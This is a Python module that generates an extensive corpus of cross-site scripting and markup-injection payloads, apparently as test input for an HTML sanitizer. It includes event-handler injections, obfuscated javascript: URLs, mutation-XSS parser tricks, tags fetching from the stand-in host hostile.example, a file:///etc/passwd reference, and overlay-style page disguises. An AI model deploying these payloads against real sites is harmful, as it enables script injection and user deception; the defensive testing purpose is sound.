# ruff: noqa: E501 (each line is a family, not something to read)
"""Hostile markup, by families: what people have put into messages to run code, fetch addresses or disguise a page.

Each would call `alert`, fetch from hostile.example, or break out of its place, if anything let it.
"""

from itertools import product

CALL = "alert(document.domain)"
AWAY = "https://hostile.example/x"

EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onpointerenter", "onanimationstart",
    "ontransitionend", "ontoggle", "onbeforetoggle", "onwheel", "onscroll", "onscrollend", "oncontentvisibilityautostatechange",
    "onpaste", "onbeforeinput", "onkeydown", "onsubmit", "oncuechange",
)  # fmt: skip
CARRIERS = ("img src=x", "p", "a href=#", "svg", "body", "details open", "input autofocus", "video src=x", "b")
SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "\njavascript:{}", "java\tscript:{}",
    "java\nscript:{}", "java&#9;script:{}", "java&#x0A;script:{}", "javascript&colon;{}", "javascript&#58;{}",
    "&#106;avascript:{}", "&#x6A&#x61&#x76&#x61script:{}", "\x01javascript:{}", "javascript\x00:{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>", "blob:{}", "file:///etc/passwd", "filesystem:{}", "view-source:{}",
    "//hostile.example/x", "/\\hostile.example", "\\\\hostile.example", "http:hostile.example", "https:///hostile.example",
    "feed:javascript:{}", "jar:{}", "livescript:{}", "mocha:{}", "intent:#Intent;{}", "ms-word:ofe|u|{}", "/profil/", "?x", "#x",
    "javascript://%0a{}", "javascript:/*--></title></style></textarea></script>*/{}",
)  # fmt: skip
LINKED = ('<a href="{}">x</a>', "<a href='{}'>x</a>", '<area href="{}">', '<form action="{}"><button>x</button></form>')
FETCHERS = (
    '<img src="{}">', '<img srcset="{} 2x">', '<picture><source srcset="{}"><img></picture>', '<video src="{}" autoplay></video>',
    '<video poster="{}"></video>', '<audio src="{}" autoplay></audio>', '<track src="{}">', '<iframe src="{}"></iframe>',
    '<frame src="{}">', '<embed src="{}">', '<object data="{}"></object>', '<applet code="{}"></applet>',
    '<link rel="stylesheet" href="{}">', '<link rel="prefetch" href="{}">', '<link rel="dns-prefetch" href="{}">',
    '<base href="{}">', '<meta http-equiv="refresh" content="0;url={}">', '<script src="{}"></script>',
    '<input type="image" src="{}">', '<body background="{}">', '<table background="{}"><tr><td>x</td></tr></table>',
    '<td background="{}">', '<svg><image href="{}"/></svg>', '<svg><use href="{}#x"/></svg>', '<svg><feImage href="{}"/></svg>',
    '<math><mglyph src="{}"></math>', '<style>@import "{}";</style>', "<style>*{{background:url({})}}</style>",
    '<p style="background:url({})">x</p>', '<p style="list-style-image:url({})">x</p>', '<p style="content:url({})">x</p>',
    '<p style="behavior:url({})">x</p>', '<p style="-moz-binding:url({})">x</p>', '<a ping="{}" href="https://x.example">x</a>',
    '<html manifest="{}">', '<bgsound src="{}">', '<portal src="{}"></portal>', '<image src="{}">', '<isindex action="{}">',
    '<blockquote cite="{}">x</blockquote>', '<q cite="{}">x</q>', '<del cite="{}">x</del>', '<button formaction="{}">x</button>',
    '<menuitem icon="{}">', '<iframe srcdoc="<img src={}>"></iframe>', '<noscript><img src="{}"></noscript>',
    '<link rel="icon" href="{}">', '<layer src="{}"></layer>', '<xml src="{}"></xml>', '<a href="x" download="{}">x</a>',
)  # fmt: skip
SCRIPTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<script>{}",
    "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>", "<script type=module>{}</script>",
    "<svg><script>{}</script></svg>", "<svg><script>{}<b/></script></svg>", "<math><script>{}</script></math>",
    "<svg/onload={}>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to={}>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text>x</text></a></svg>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>", "<svg><style><img src=x onerror={}></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={} src>">',
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='{}'>\">",
    '<svg></p><style><a id="</style><img src=1 onerror={}>">', '<svg><p><style><g title="</style><img src=x onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>">', '<title><p title="</title><img src=x onerror={}>">',
    '<textarea><p title="</textarea><img src=x onerror={}>">', '<xmp><p title="</xmp><img src=x onerror={}>">',
    '<iframe><p title="</iframe><img src=x onerror={}>">', '<noembed><p title="</noembed><img src=x onerror={}>">',
    "<template><script>{}</script></template>", "<template><img src=x onerror={}></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>", "<select><template><img src=x onerror={}></template></select>",
    "<select><iframe></select><img src=x onerror={}>", "<table><td><style><img src=x onerror={}></style>",
    "<plaintext><img src=x onerror={}>", "<listing>&lt;img onerror={} src=x&gt;</listing>", "<![CDATA[<img src=x onerror={}>]]>",
    "<svg><![CDATA[><img src=x onerror={}>]]></svg>", "<!--><img src=x onerror={}>-->", "<!-- --!><img src=x onerror={}> -->",
    "<!-->-<img src=x onerror={}>", "<?xml version=1><img src=x onerror={}>", "<!doctype html><body onload={}>",
    "<%<!--'%><script>{}</script -->", "</script><script>{}</script>", '"><img src=x onerror={}>', "'><svg onload={}>",
    '<img src=x onerror="{}"', "<img src='x' onerror='{}' ", "<img/src=x/onerror={}>", "<img\x0csrc=x\x0conerror={}>",
    "<img\x00src=x onerror={}>", "<i\x00mg src=x onerror={}>", "<img src=x onerror\x00={}>", "<img src=`x` onerror={}>",
    '<a href="https://x.example" onclick={}>x</a>', "<b/onclick={}>x</b>", "<p onclick={}><p onclick={}>x",
    "<x onclick={} autofocus tabindex=0>", "<custom-element onclick={}>x</custom-element>", "<marquee onstart={}>x</marquee>",
    "<isindex type=image src=x onerror={}>", "<object type=text/html data=javascript:{}></object>",
    "<embed src=javascript:{}>", "<iframe src=javascript:{}></iframe>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<link rel=import href=data:text/html,<script>{}</script>>", "<keygen autofocus onfocus={}>", "<dialog open onclose={}>x</dialog>",
    "<p popover id=p ontoggle={}>x</p>", "<a href=https://x.example target=_blank onclick={}>x</a>",
)  # fmt: skip
STYLES = (
    '<p style="position:fixed;inset:0">x</p>', '<p style="width:expression({})">x</p>', '<p style="color:red">x</p>',
    '<p class="modal-backdrop">x</p>', '<span class="ink-red top">x</span>', '<span class="notice">x</span>', '<p id="main">x</p>',
    '<p name="live">x</p>', '<a id="live" href="https://x.example">x</a>', '<form id="reply"><input name="submission"></form>',
    '<p data-live="presence:1">x</p>', '<p data-arrivals="/x">x</p>', '<p hx-get="/x" hx-trigger="load">x</p>',
    '<p data-hx-get="/x">x</p>', "<p data-guard data-draft>x</p>", '<p aria-hidden="true" role="alert">x</p>', "<p contenteditable>x</p>",
    '<p is="x-y" slot="z" part="q">x</p>', '<p tabindex="1" accesskey="s">x</p>', '<p dir="rtl" lang="xx" title="y">x</p>',
    "\u202e<p>\u202etxet</p>", "<p>\u2066x\u2067y</p>", "<style>p{{display:none}}</style>", "<p style>x</p>", "<p style='{}'>x",
    '<th scope="evil" colspan="9999999">x</th>', '<table><tr><td colspan="-1" rowspan="javascript:1">x</td></tr></table>',
)  # fmt: skip
DEEP = (
    "<b>" * 600 + "x", "<blockquote>" * 300 + "x", "<table><tr><td>" * 60 + "x", "<ul><li>" * 200 + "x", "<a href=x>" * 200,
    "</p>" * 500, "<" * 3000, "&" * 3000, "&lt;script&gt;" + CALL + "&lt;/script&gt;", "<p>" + "x" * 20_000 + "</p>", "\x00" * 500, "<p",
    "</", "<!", "<!--", "<a href=", '<a href="https://x.example', "&#0;&#x110000;&#xD800;", "\ud7ff\ufffe\uffff", "<p>" * 500 + "</div>" * 500,
)  # fmt: skip

VECTORS = list(
    dict.fromkeys(
        [
            *(f"<{carrier} {event}={CALL}>x" for carrier, event in product(CARRIERS, EVENTS)),
            *(link.replace("{}", scheme.replace("{}", CALL)) for link, scheme in product(LINKED, SCHEMES)),
            *(fetcher.replace("{}", AWAY).replace("{{", "{").replace("}}", "}") for fetcher in FETCHERS),
            *(script.replace("{}", CALL) for script in SCRIPTS),
            *(style.replace("{}", CALL) for style in STYLES),
            *DEEP,
        ]
    )
)
